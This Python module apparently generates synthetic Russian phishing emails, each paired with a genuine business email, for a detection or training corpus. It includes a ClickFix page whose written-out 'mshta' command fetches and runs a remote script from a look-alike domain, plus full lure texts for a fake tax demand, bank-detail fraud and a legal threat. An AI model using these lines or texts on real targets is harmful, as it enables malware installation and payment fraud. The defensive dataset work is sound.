"""Russian messages: attack 37-40, business 37-40."""
from mailgen import core, checks as C, office, systems as S, systems2 as S2
from mailgen.core import text_part, bin_part, multipart, boundary
from mailgen.builder import to_plain, to_html
from data.company import staff, VTORCHERMET as VT, OFF
from . import attack, business
from .common import letter_pdf, pdf_date, mixed

RU = OFF["RU"]
INN = RU["ids"][0][1]


def rub(v):
    s = "{:,.2f}".format(v).replace(",", " ").replace(".", ",")
    return s


# =========================================================== ATTACKS
@attack("37-ru-fns-trebovanie-parol-zip.eml",
        "'Межрайонная ИФНС № 15' sends a tax-office demand for documents (art. 93.1) about the scrap supplier, as a "
        "password-protected ZIP with the password in the text",
        "Classic Russian malware lure: tax-authority impersonation from nalog-service.ru on a rented VPS (real: "
        "nalog.gov.ru, and demands arrive through the e-filing operator, see business/39); encrypted archive with "
        "password in the body; inside a .pdf.scr executable (inert placeholder)")
def a37(m):
    m.when("2026-10-26 10:14:55", "MSK").sender("Межрайонная ИФНС России № 15 по Санкт-Петербургу", "i7805@nalog-service.ru")
    m.recipients([staff("acc_ru", native=True)])
    pw = "4187"
    m.password(pw, "given in the mail body")
    m.phone("+7 812 335-14-15")
    scr = ("[INERT PLACEHOLDER – not a program]\r\nStands for: a Windows screensaver executable (.scr) with a PDF icon "
           "that installs a remote-access trojan. This file contains only this text.\r\n").encode("utf-8")
    z = office.zip_encrypted([("Требование_15-28_41877.pdf.scr", scr, (2026, 10, 26, 9, 58, 0))], pw, m.rng)
    text = ("Уважаемый налогоплательщик!\n\n"
            "Межрайонная ИФНС России № 15 по Санкт-Петербургу в соответствии со статьей 93.1 Налогового кодекса "
            "Российской Федерации направляет Вам требование о представлении документов (информации) по "
            "взаимоотношениям с ООО «ВторЧерМет-Нева» (ИНН %s) за 3 квартал 2026 года.\n\n"
            "Документы необходимо представить в течение 5 рабочих дней со дня получения требования. Непредставление "
            "документов влечет ответственность, предусмотренную статьями 126 и 129.1 НК РФ.\n\n"
            "Требование и перечень документов во вложении. Архив защищен паролем в целях сохранения налоговой тайны.\n"
            "Пароль: %s\n\n"
            "С уважением,\nМежрайонная ИФНС России № 15 по Санкт-Петербургу\nтел. +7 812 335-14-15\n" % (VT["inn"], pw))
    body = multipart("mixed", [text_part(text, "plain", "windows-1251", "base64"),
                               bin_part(z, "application/zip", "Требование_15-28_41877.zip", name_style="rfc2047b",
                                        charset="windows-1251")], boundary(m.rng, "php"))
    r = S2.vps_postfix(m, "mail.nalog-service.ru", "94.103.91.174", tz="MSK", dkim_sel="mail",
                       system="attacker VPS (Postfix) mail.nalog-service.ru", hdr_charset="windows-1251", hdr_enc="B")
    return m.finish(r, body, "Требование о представлении документов (информации) № 15-28/41877 от 26.10.2026",
                    auth=dict(spf="pass", dmarc=None))


@attack("38-ru-diadok-akt-sverki-clickfix.eml",
        "'Контур.Диадок' says the supplier sent a reconciliation statement to sign; the attached HTML 'opens the "
        "document in protected mode' and shows a fake CAPTCHA telling the user to press Win+R, Ctrl+V, Enter",
        "ClickFix lure: look-alike domain diadoc-kontur.ru (real: diadoc.kontur.ru) from an attacker VPS; the HTML "
        "instructs the victim to paste and run an mshta command (shown as text only, no script in this copy); the "
        "real Diadoc never sends documents as attachments")
def a38(m):
    m.when("2026-11-17 09:33:40", "MSK").sender("Контур.Диадок", "noreply@diadoc-kontur.ru")
    m.recipients([staff("acc_ru", native=True)])
    cmd = 'mshta https://diadoc-kontur.ru/verify/captcha-7731.hta # "Я не робот - Cloudflare Verification ID: 7c1b9f"'
    page = ("<!DOCTYPE html>\n<html lang=\"ru\"><head><meta charset=\"utf-8\"><title>Диадок – Акт сверки</title>\n"
            "<style>body{font-family:Segoe UI,Arial;background:#f4f6f8;margin:0}.box{width:460px;margin:80px auto;background:#fff;"
            "padding:28px;border:1px solid #d9dde1}.cf{border:1px solid #ccc;padding:14px;display:flex;align-items:center}"
            "code{display:block;background:#f1f1f1;padding:8px;font-size:12px;margin-top:12px}</style></head><body>\n"
            "<div class=\"box\"><h3>Проверка безопасности перед открытием документа</h3>\n"
            "<div class=\"cf\">&#9744;&nbsp; Я не робот <span style=\"margin-left:auto;font-size:11px\">Cloudflare</span></div>\n"
            "<p>Для подтверждения выполните шаги:</p><ol><li>Нажмите <b>Win + R</b></li><li>Нажмите <b>Ctrl + V</b></li>"
            "<li>Нажмите <b>Enter</b></li></ol>\n<p style=\"font-size:12px;color:#666\">В буфер обмена будет скопирована команда проверки:</p>\n"
            "<code>%s</code>\n<p style=\"font-size:12px;color:#666\">Документ: Акт сверки взаимных расчётов за 9 месяцев 2026 г., "
            "отправитель ООО «ВторЧерМет-Нева»</p></div>\n</body></html>\n" % cmd.replace("&", "&amp;").replace('"', "&quot;"))
    paras = ["Здравствуйте!",
             "Контрагент ООО \"ВторЧерМет-Нева\" отправил вам документ, требующий подписи:\n"
             "Акт сверки взаимных расчётов за 9 месяцев 2026 г.",
             "Для просмотра откройте вложенный файл - документ откроется в защищённом режиме после проверки безопасности.",
             "Контур.Диадок - система электронного документооборота"]
    plain = "\n\n".join(paras)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=koi8-r"></head><body>'
            '<div style="font-family:Arial;font-size:14px"><div style="color:#1f5fbf;font-size:20px;font-weight:bold">Диадок</div>'
            + "".join("<p>%s</p>" % to_html(p) for p in paras) + "</div></body></html>")
    a = multipart("alternative", [text_part(plain, "plain", "koi8-r", "quoted-printable"),
                                   text_part(html, "html", "koi8-r", "quoted-printable")], boundary(m.rng, "mutt"))
    body = multipart("mixed", [a, bin_part(page.encode("utf-8"), "text/html", "Документ_Диадок_АктСверки.html",
                                            name_style="rfc2231", charset="utf-8")], boundary(m.rng, "mutt"))
    r = S2.vps_postfix(m, "mx.diadoc-kontur.ru", "5.188.86.219", tz="MSK", dkim_sel="dkim",
                       system="attacker VPS (Postfix) mx.diadoc-kontur.ru", hdr_charset="koi8-r", hdr_enc="B")
    return m.finish(r, body, "Вам поступил документ: Акт сверки за 9 месяцев 2026 г. от ООО \"ВторЧерМет-Нева\"",
                    auth=dict(spf="pass", dmarc=None))


@attack("39-ru-vtorchermet-smena-rekvizitov.eml",
        "'Бухгалтерия ВторЧерМет-Нева' announces new bank details at T-Bank from 07.12 and asks to pay invoice № 412 "
        "there; letter 'signed by the general director' attached",
        "Supplier bank-detail fraud from the look-alike domain vtorchermet-neva.com on Yandex 360 (the real supplier "
        "is vtorchermet-neva.ru on Yandex 360 too, so infrastructure looks identical); account at a different bank "
        "with valid check key; references the real open invoice")
def a39(m):
    m.when("2026-12-04 11:05:18", "MSK").sender("Бухгалтерия ВторЧерМет-Нева", "buh@vtorchermet-neva.com")
    m.recipients([staff("acc_ru", native=True)], [staff("om_ru", native=True)])
    bik, ks = "044525974", "30101810145250000974"
    rs = C.ru_account(bik, "40702810X10001739258")
    m.account(("RU", bik, rs, ks, "АО «ТБанк» – fraudulent new account"))
    m.phone("+7 812 407-31-56")
    text = ("Добрый день!\n\nУведомляем вас об изменении банковских реквизитов ООО «ВторЧерМет-Нева» с 07.12.2026 в связи с "
            "переходом на расчётно-кассовое обслуживание в АО «ТБанк».\n\nПросим оплату по счёту № 412 от 13.11.2026 и все "
            "последующие платежи производить по новым реквизитам:\n\nПолучатель: ООО «ВторЧерМет-Нева»\nИНН %s КПП %s\n"
            "Р/с %s\nБанк: АО «ТБанк», г. Москва\nБИК %s\nК/с %s\n\nПисьмо о смене реквизитов за подписью генерального "
            "директора во вложении. Расчётный счёт в ПАО Сбербанк будет закрыт, платежи на него возвращаются.\n\n"
            "С уважением,\nГлавный бухгалтер\nОрлова Л. В.\nООО «ВторЧерМет-Нева»\nтел. +7 812 407-31-56\n"
            % (VT["inn"], VT["kpp"], rs, bik, ks))
    html = ("<div>" + "".join("<div>%s</div>" % (to_html(l) or "&nbsp;") for l in text.split("\n")) + "</div>")
    pdfdata = letter_pdf(
        m, "ООО «ВторЧерМет-Нева»", ["ИНН %s · КПП %s · ОГРН %s · Санкт-Петербург" % (VT["inn"], VT["kpp"], VT["ogrn"])],
        ["Генеральному директору", "ООО «Экзампл Металл»", "198035, г. Санкт-Петербург"],
        [("Исх. №", "187 от 03.12.2026")],
        "Письмо о смене банковских реквизитов",
        ["Настоящим сообщаем, что с 07.12.2026 изменились банковские реквизиты ООО «ВторЧерМет-Нева». Просим "
         "производить оплату по следующим реквизитам:",
         "Р/с %s\nАО «ТБанк», БИК %s, к/с %s" % (rs, bik, ks),
         "Прежние реквизиты (ПАО Сбербанк) считать недействительными."],
        [["ООО «ВторЧерМет-Нева»"], ["тел. +7 812 407-31-56"], ["buh@vtorchermet-neva.ru"]],
        pdf_date(m.at(-86400), "MSK"), producer="Microsoft® Word 2019", author="buh",
        signature=["Генеральный директор ___________ С. А. Волков", "Главный бухгалтер ___________ Л. В. Орлова", "М.П."])
    a = multipart("alternative", [text_part(text, "plain", "utf-8", "base64"),
                                   text_part(html, "html", "utf-8", "base64")], boundary(m.rng, "yandex"))
    body = multipart("mixed", [a, bin_part(pdfdata, "application/pdf", "Письмо_о_смене_реквизитов.pdf", name_style="rfc2047b")],
                     boundary(m.rng, "yandex"))
    r = S.yandex(m, "37.146.118.40")
    return m.finish(r, body, "Смена банковских реквизитов ООО «ВторЧерМет-Нева» с 07.12.2026", auth=dict(spf="pass", dmarc=None))


@attack("40-ru-pretenziya-yandex-disk-parol.eml",
        "'Юридический отдел ООО «СтальИнвест»' sends a pre-trial claim for RUB 2,418,350 with the claim and a "
        "reconciliation statement 'on Yandex Disk' as a password archive",
        "Legal-threat lure from a compromised mailbox of a small company (Roundcube on Beget, session from a foreign "
        "IP); no contract with this company exists; the genuine Yandex Disk link hosts a password-protected archive "
        "with a malware loader; password in the body to defeat scanning")
def a40(m):
    m.when("2026-11-05 16:40:02", "MSK").sender("Юридический отдел ООО «СтальИнвест»", "urist@stalinvest-spb.ru")
    m.recipients([staff("om_ru", native=True)])
    url = "https://disk.yandex.ru/d/Xk3b7QpL2mRt9A"
    m.password("114", "given in the mail body (archive on Yandex Disk, not attached)")
    m.phone("+7 812 648-20-17")
    text = ("Добрый день!\n\nНаправляем в Ваш адрес досудебную претензию № 114/26 в связи с неисполнением ООО «Экзампл "
            "Металл» обязательств по оплате поставленной продукции по договору поставки № 27/П-25. Сумма задолженности "
            "составляет 2 418 350,00 руб.\n\nВ случае непогашения задолженности в течение 10 календарных дней мы будем "
            "вынуждены обратиться в Арбитражный суд г. Санкт-Петербурга и Ленинградской области с взысканием неустойки и "
            "судебных расходов.\n\nПретензия, акт сверки и копии УПД размещены на Яндекс Диске (файлы большого размера):\n"
            "%s\nПароль к архиву: 114\n\nС уважением,\nЮридический отдел\nООО «СтальИнвест»\nтел. +7 812 648-20-17\n" % url)
    body = text_part(text, "plain", "UTF-8", "quoted-printable", flowed=True)
    r = S.postfix_submit(m, "smtp.beget.com", "5.101.153.62", None, None, mua="roundcube", dkim_sel="beget",
                         webmail_ip="185.220.101.47", system="Beget shared hosting, Roundcube webmail (compromised mailbox)",
                         hdr_charset="UTF-8", hdr_enc="B")
    return m.finish(r, body, "Досудебная претензия № 114/26 (неоплата по договору поставки)", auth=dict(spf="pass", dmarc=None))


# ========================================================== BUSINESS
@business("37-ru-diadok-upd-postupil.eml",
          "Kontur.Diadok notification: the scrap supplier sent UPD № 418 (RUB 1,720,560.00) to the company's Diadoc box",
          "Genuine EDI operator notification from diadoc.kontur.ru (authentication passes), link into the Diadoc web "
          "application, no attachment; matches the supplier's invoice of the same week",
          pair=("38-ru-diadok-akt-sverki-clickfix.eml",
                "Both are 'a document arrived in Diadoc'; the genuine one links to diadoc.kontur.ru, the fake comes "
                "from diadoc-kontur.ru with an HTML attachment and a fake CAPTCHA"))
def b37(m):
    m.when("2026-11-16 10:02:30", "MSK").sender("Контур.Диадок", "noreply@diadoc.kontur.ru")
    m.recipients([staff("acc_ru", native=True)])
    box = core.hexs(m.rng, 32)
    url = "https://diadoc.kontur.ru/%s/Document/Show?letterId=%s&entityId=%s" % (box, core.uuid4(m.rng), core.uuid4(m.rng))
    paras = ["Здравствуйте, Ольга!",
             "В ящик ООО «Экзампл Металл» поступил документ, требующий подписи:",
             "**УПД № 418 от 13.11.2026** на сумму 1 720 560,00 ₽\nОтправитель: ООО «ВторЧерМет-Нева», ИНН %s" % VT["inn"],
             "[Перейти к документу](%s)" % url,
             "Письмо отправлено автоматически, отвечать на него не нужно. [Настроить уведомления](https://diadoc.kontur.ru/%s/Settings/Notifications)" % box,
             "Контур.Диадок · АО «ПФ «СКБ Контур»"]
    plain = "\n\n".join(to_plain(p, "gmail") for p in paras)
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f0f0f0">'
            '<table align="center" width="600" style="background:#fff;font-family:Arial,sans-serif;font-size:15px;color:#222">'
            '<tr><td style="padding:20px 28px;color:#1f5fbf;font-size:22px;font-weight:bold">Диадок</td></tr>'
            '%s</table></body></html>' % "".join('<tr><td style="padding:8px 28px">%s</td></tr>' % to_html(p) for p in paras))
    body = multipart("alternative", [text_part(plain, "plain", "utf-8", "quoted-printable"),
                                      text_part(html, "html", "utf-8", "quoted-printable")], boundary(m.rng, "java"))
    r = S2.kontur(m, "diadoc.kontur.ru")
    return m.finish(r, body, "Вам пришёл документ от ООО «ВторЧерМет-Нева»: УПД № 418 от 13.11.2026",
                    auth=dict(spf="pass", dmarc="reject"))


@business("38-ru-vtorchermet-schet-na-oplatu.eml",
          "Supplier ВторЧерМет-Нева sends invoice № 412 for 64.2 t of scrap grade 3А (VAT by the buyer as tax agent, "
          "art. 161 p. 8 Tax Code) with the usual Sberbank details",
          "From the supplier's real domain on Yandex 360 (authentication passes), says 'details unchanged', UPD sent "
          "via Diadoc; account and BIK pass the control-key check and match the vendor master",
          pair=("39-ru-vtorchermet-smena-rekvizitov.eml",
                "Same supplier and invoice № 412, same Yandex infrastructure; only the look-alike .com mail changes the "
                "bank details"))
def b38(m):
    m.when("2026-11-13 15:40:22", "MSK").sender(*VT["kuznetsov"])
    m.recipients([staff("om_ru", native=True)], [VT["buh"]])
    m.account(("RU", VT["bik"], VT["rs"], VT["ks"], "ПАО Сбербанк – supplier's regular account"))
    m.phone("+7 812 407-31-56", "+7 921 418-55-07")
    amount = 64.2 * 26800
    text = ("Екатерина, добрый день!\n\nНаправляю счёт на оплату за партию лома 3А, отгруженную 12.11 (64,2 т по весу "
            "вашей приёмки). УПД № 418 отправили через Диадок. Реквизиты прежние.\n\nС уважением,\nАндрей Кузнецов\n"
            "менеджер по продажам\nООО «ВторЧерМет-Нева»\nтел. +7 812 407-31-56, моб. +7 921 418-55-07\n")
    html = ("<div>" + "".join("<div>%s</div>" % (to_html(l) or "&nbsp;") for l in text.split("\n")) + "</div>")
    inv = letter_pdf(
        m, "ООО «ВторЧерМет-Нева»", ["ИНН %s · КПП %s · ОГРН %s" % (VT["inn"], VT["kpp"], VT["ogrn"])],
        ["Покупатель: ООО «Экзампл Металл»", "ИНН %s, КПП 780501001" % INN, "198035, г. Санкт-Петербург, Межевой канал, д. 5"],
        [("Счёт №", "412"), ("Дата", "13.11.2026"), ("Основание", "Договор № 14/ЛМ-24")],
        "Счёт на оплату № 412 от 13 ноября 2026 г.",
        ["Получатель: ООО «ВторЧерМет-Нева», р/с %s в %s, БИК %s, к/с %s" % (VT["rs"], VT["bank"], VT["bik"], VT["ks"])],
        [["ООО «ВторЧерМет-Нева»"], ["тел. +7 812 407-31-56"], ["buh@vtorchermet-neva.ru"]],
        pdf_date(m.at(-3600), "MSK"), producer="1С:Предприятие 8.3", creator="1С:Предприятие", author="buh",
        table=(["Наименование", "Кол-во", "Цена, руб.", "Сумма, руб."],
               [["Лом и отходы чёрных металлов, вид 3А (ГОСТ 2787-2019)", "64,200 т", rub(26800), rub(amount)]], ["l", "r", "r", "r"]),
        col_x=[50, 330, 400, 470], totals=[("Итого", rub(amount), False), ("Без налога (НДС)", "—", False),
                                           ("Всего к оплате", rub(amount), True)],
        signature=["НДС исчисляется покупателем – налоговым агентом (п. 8 ст. 161 НК РФ).",
                   "Руководитель ____________ Волков С. А.     Бухгалтер ____________ Орлова Л. В."])
    a = multipart("alternative", [text_part(text, "plain", "utf-8", "base64"),
                                   text_part(html, "html", "utf-8", "base64")], boundary(m.rng, "yandex"))
    body = multipart("mixed", [a, bin_part(inv, "application/pdf", "Счет_412_от_13.11.2026.pdf", name_style="rfc2047b")],
                     boundary(m.rng, "yandex"))
    r = S.yandex(m, "178.70.41.119")
    return m.finish(r, body, "Счёт на оплату № 412 от 13.11.2026 (лом 3А, партия 64,2 т)", auth=dict(spf="pass", dmarc="quarantine"))


@business("39-ru-kontur-extern-trebovanie-ifns.eml",
          "Kontur.Extern notification: a demand for explanations from IFNS № 15 arrived in the e-filing system; "
          "receipt must be confirmed within 6 working days",
          "Genuine e-filing operator mail from extern.kontur.ru (authentication passes); the demand itself is only in "
          "the operator's system, the link goes to extern.kontur.ru, nothing is attached",
          pair=("37-ru-fns-trebovanie-parol-zip.eml",
                "Both are about a tax-office demand from IFNS № 15; the real one arrives via Kontur.Extern, the fake "
                "as a password ZIP from nalog-service.ru"))
def b39(m):
    m.when("2026-10-27 12:10:15", "MSK").sender("Контур.Экстерн", "noreply@extern.kontur.ru")
    m.recipients([staff("acc_ru", native=True)])
    url = "https://extern.kontur.ru/%s/Requirements/%s" % (core.uuid4(m.rng), core.uuid4(m.rng))
    paras = ["Здравствуйте!",
             "В Контур.Экстерн поступило требование для организации ООО «Экзампл Металл» (ИНН %s) от Межрайонной ИФНС "
             "России № 15 по Санкт-Петербургу:" % INN,
             "Требование о представлении пояснений № 15-27/39120 от 26.10.2026 (ст. 88 НК РФ), декларация по НДС за "
             "3 квартал 2026 г.",
             "Отправьте квитанцию о приёме в течение 6 рабочих дней (до 05.11.2026), иначе инспекция вправе "
             "приостановить операции по счетам.",
             "[Перейти к требованию](%s)" % url,
             "Это автоматическое уведомление Контур.Экстерна. Отвечать на него не нужно."]
    plain = "\n\n".join(to_plain(p, "gmail") for p in paras)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:15px">'
            '<div style="max-width:600px"><div style="color:#d70c17;font-size:22px;font-weight:bold">Контур.Экстерн</div>'
            + "".join("<p>%s</p>" % to_html(p) for p in paras) + "</div></body></html>")
    body = multipart("alternative", [text_part(plain, "plain", "utf-8", "quoted-printable"),
                                      text_part(html, "html", "utf-8", "quoted-printable")], boundary(m.rng, "java"))
    r = S2.kontur(m, "extern.kontur.ru")
    return m.finish(r, body, "Поступило требование из ИФНС № 15 по г. Санкт-Петербургу (ООО «Экзампл Металл»)",
                    auth=dict(spf="pass", dmarc="reject"))


@business("40-ru-vtorchermet-foto-yandex-disk.eml",
          "Андрей Кузнецов shares photos of the next 3А lot (contamination, dimensions) via a Yandex Disk link before "
          "loading, sent from The Bat! in KOI8-R",
          "Known supplier contact from the real domain via Yandex SMTP (authentication passes), link is a plain "
          "Yandex Disk folder of photos that was agreed by phone, no password, no payment topic",
          pair=("40-ru-pretenziya-yandex-disk-parol.eml",
                "Both carry a disk.yandex.ru link; the genuine one shares agreed photos, the attack a password archive "
                "with a legal threat"))
def b40(m):
    m.when("2026-12-07 12:20:40", "MSK").sender(*VT["kuznetsov"])
    m.recipients([staff("om_ru", native=True)])
    m.phone("+7 921 418-55-07")
    url = "https://disk.yandex.ru/d/mP4r8TzQ1vLw2g"
    text = ("Здравствуйте, Екатерина!\n\nКак договаривались по телефону, фотографии партии 3А перед погрузкой (засор, "
            "габариты, негабарит отложили отдельно) выложил на Яндекс Диск:\n%s\n\nВагоны подаём в среду утром, "
            "ориентировочно 66 т.\n\n--\nС уважением,\nАндрей Кузнецов\nООО \"ВторЧерМет-Нева\"\nмоб. +7 921 418-55-07\n" % url)
    body = text_part(text, "plain", "koi8-r", "8bit")
    r = S.yandex(m, "178.70.41.119", web=False)
    return m.finish(r, body, "Фото партии 3А перед отгрузкой", auth=dict(spf="pass", dmarc="quarantine"))
